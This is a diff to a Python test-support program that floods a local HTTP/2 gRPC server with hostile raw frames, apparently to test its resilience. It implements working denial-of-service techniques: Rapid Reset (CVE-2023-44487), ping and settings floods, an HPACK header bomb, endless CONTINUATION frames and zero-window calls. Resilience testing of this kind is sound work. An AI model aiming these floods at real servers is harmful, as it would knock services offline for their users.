@@ -1,10 +1,12 @@
 """Hostile HTTP/2 connections, made of raw frames: `python -m tests.support.floods KIND PORT COUNT` runs two threads.
 
-A program of its own, so that the honest caller beside it keeps the interpreter to themselves. It is bounded by COUNT
-and by SECONDS, opens a new connection when the server closes one, and prints what it has done.
+A program of its own, so that the honest caller beside it has an interpreter to themselves. It ends when the server has
+seen COUNT hostile acts, or after SECONDS; it connects again when the server closes a connection; and it prints, as
+JSON, what it has done.
 """
 
 import itertools
+import json
 import socket
 import sys
 import threading
@@ -12,7 +14,10 @@ import time
 from collections.abc import Callable, Iterator
 
 from bench.http2 import (
+    ACK,
+    DATA,
     END_HEADERS,
+    END_STREAM,
     FIRST_WINDOW,
     HEADERS,
     INITIAL_WINDOW_SIZE,
@@ -29,15 +34,16 @@ CONTINUATION = 9
 CANCEL = 8
 THREADS = 2
 SECONDS = 20.0
-BATCH = 100  # frames, or pairs of frames, per write
-MESSAGE = b"\0\0\0\0\0"
-COMMON = common_headers("/livestream.v1.LiveStreamService/GetStream")
+BATCH = 100  # hostile acts per write
+LAST = b"the last"
+GET_STREAM = common_headers("/livestream.v1.LiveStreamService/GetStream")
+CHECK = common_headers("/grpc.health.v1.Health/Check")  # anybody is answered with a message
 
 
 def resets(streams: Iterator[int]) -> bytes:
-    """A call, and its cancellation at once."""
+    """A call, and its cancellation at once (CVE-2023-44487)."""
     stream = next(streams)
-    return frame(HEADERS, END_HEADERS, stream, COMMON) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
+    return frame(HEADERS, END_HEADERS, stream, GET_STREAM) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4))
 
 
 def pings(_streams: Iterator[int]) -> bytes:
@@ -50,94 +56,100 @@ def settings(_streams: Iterator[int]) -> bytes:
     return frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + FIRST_WINDOW.to_bytes(4))
 
 
-def header_bomb(streams: Iterator[int]) -> bytes:
-    """A header of 4,000 bytes enters the table, and then one byte for each time that it is repeated: 16 MB in 4 KiB."""
-    name, value = b"x-bomb", b"a" * 3900
-    entered = b"\x40" + literal(name, value)[1:]  # RFC 7541, 6.2.1: with indexing
-    repeated = b"\xbe" * 4096  # RFC 7541, 6.1: index 62, the newest of the dynamic table
-    return frame(HEADERS, END_HEADERS, next(streams), COMMON + entered + repeated)
+def header_bombs(streams: Iterator[int]) -> bytes:
+    """A header of 3,900 bytes goes into the table, and is then repeated at one byte each: 16 MB in 8 KiB."""
+    kept = b"\x40" + literal(b"x-bomb", b"a" * 3900)[1:]  # RFC 7541, 6.2.1: into the table
+    return frame(HEADERS, END_HEADERS, next(streams), GET_STREAM + kept + 4096 * b"\xbe")  # 6.1: the newest there
 
 
-def continuations(streams: Iterator[int]) -> bytes:
-    """A header block that never ends."""
+def endless_headers(streams: Iterator[int]) -> bytes:
+    """One block of headers in a hundred CONTINUATION frames, none of which is the last."""
     stream = next(streams)
     more = frame(CONTINUATION, 0, stream, literal(b"x-more", b"a" * 1000))
-    return frame(HEADERS, 0, stream, COMMON) + 100 * more
+    return frame(HEADERS, 0, stream, GET_STREAM) + 100 * more
 
 
-def zero_windows(streams: Iterator[int]) -> bytes:
-    """Calls whose answers nobody has room for. The preface said so, see `first`."""
+def closed_windows(streams: Iterator[int]) -> bytes:
+    """A call whose answer there is no room for: the connection began with a window of 0."""
     stream = next(streams)
-    return frame(HEADERS, END_HEADERS, stream, COMMON) + frame(0, 1, stream, MESSAGE)
+    return frame(HEADERS, END_HEADERS, stream, CHECK) + frame(DATA, END_STREAM, stream, bytes(5))
 
 
 KINDS: dict[str, Callable[[Iterator[int]], bytes]] = {
-    each.__name__: each for each in (resets, pings, settings, header_bomb, continuations, zero_windows)
+    each.__name__: each for each in (resets, pings, settings, header_bombs, endless_headers, closed_windows)
 }
 
 
-class Tally:
-    """What the threads have done together."""
+class Flood:
+    """What both threads do, and have done."""
 
-    def __init__(self, count: int) -> None:
+    def __init__(self, kind: str, port: int, count: int) -> None:
+        self._kind = kind
+        self._port = port
         self._left = count
+        self._until = time.monotonic() + SECONDS
         self._lock = threading.Lock()
-        self.sent = self.connections = self.closed = 0
+        self.acts = self.connections = self.closed = 0
 
-    def take(self, count: int) -> int:
-        """How many more to send, up to `count`."""
+    def run(self) -> None:
+        """Attack over one connection after another."""
+        while self._left and time.monotonic() < self._until:
+            try:
+                with socket.create_connection(("127.0.0.1", self._port), 5) as sock:
+                    self._count(connections=1)
+                    self._attack(sock)
+            except OSError:
+                self._count(closed=1)
+
+    def _attack(self, sock: socket.socket) -> None:
+        """Raises OSError if the server closes the connection."""
+        window = 0 if self._kind == closed_windows.__name__ else FIRST_WINDOW
+        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)))
+        sock.sendall(frame(SETTINGS, ACK, 0, b""))  # for those that the server is about to send
+        reader = threading.Thread(target=self._read_to_the_last, args=(sock,))
+        reader.start()
+        try:
+            streams = itertools.count(1, 2)
+            while time.monotonic() < self._until and (count := self._take()):
+                sock.sendall(b"".join(KINDS[self._kind](streams) for _ in range(count)))
+                self._count(acts=count)
+            sock.sendall(frame(PING, 0, 0, LAST))
+        finally:
+            reader.join(SECONDS)
+
+    def _read_to_the_last(self, sock: socket.socket) -> None:
+        """Read, so that the server never waits for us, until it answers the last ping or closes."""
+        seen = b""
+        try:
+            while LAST not in seen and (data := sock.recv(65_536)):
+                seen = seen[-len(LAST) :] + data
+        except OSError:
+            pass
+
+    def _take(self) -> int:
+        """How many acts to do next; 0 when all are done."""
         with self._lock:
-            taken = min(count, self._left)
+            taken = min(BATCH, self._left)
             self._left -= taken
             return taken
 
-
-def attack(kind: str, port: int, tally: Tally) -> None:
-    """Send until the tally is used up, over one connection after another."""
-    until = time.monotonic() + SECONDS
-    while time.monotonic() < until:
-        try:
-            with socket.create_connection(("127.0.0.1", port), 5) as sock:
-                tally.connections += 1
-                if not _flood(sock, kind, tally, until):
-                    return
-        except OSError:
-            tally.closed += 1
-
-
-def _flood(sock: socket.socket, kind: str, tally: Tally, until: float) -> bool:
-    """Send on one connection; True if the server has closed it."""
-    window = 0 if kind == "zero_windows" else FIRST_WINDOW
-    sock.sendall(PREFACE + frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2) + window.to_bytes(4)))
-    sock.sendall(frame(SETTINGS, 1, 0, b""))  # acknowledges what the server is about to send
-    threading.Thread(target=_drain, args=(sock,), daemon=True).start()
-    streams = itertools.count(1, 2)
-    while time.monotonic() < until and (count := tally.take(BATCH)):
-        sock.sendall(b"".join(KINDS[kind](streams) for _ in range(count)))
-        tally.sent += count
-    time.sleep(1)  # for the server, to see it
-    return False
-
-
-def _drain(sock: socket.socket) -> None:
-    """Read and forget, so that the server is never the one who waits."""
-    try:
-        while sock.recv(65_536):
-            pass
-    except OSError:
-        pass
+    def _count(self, *, acts: int = 0, connections: int = 0, closed: int = 0) -> None:
+        with self._lock:
+            self.acts += acts
+            self.connections += connections
+            self.closed += closed
 
 
 def main() -> None:
-    kind, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
-    tally = Tally(count)
-    threads = [threading.Thread(target=attack, args=(kind, port, tally)) for _ in range(THREADS)]
     since = time.monotonic()
+    flood = Flood(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
+    threads = [threading.Thread(target=flood.run) for _ in range(THREADS)]
     for each in threads:
         each.start()
     for each in threads:
         each.join()
-    print(f"{tally.sent} {tally.connections} {tally.closed} {time.monotonic() - since:.1f}", flush=True)
+    done = {"acts": flood.acts, "connections": flood.connections, "closed": flood.closed}
+    print(json.dumps(done | {"seconds": round(time.monotonic() - since, 1)}))
 
 
 if __name__ == "__main__":
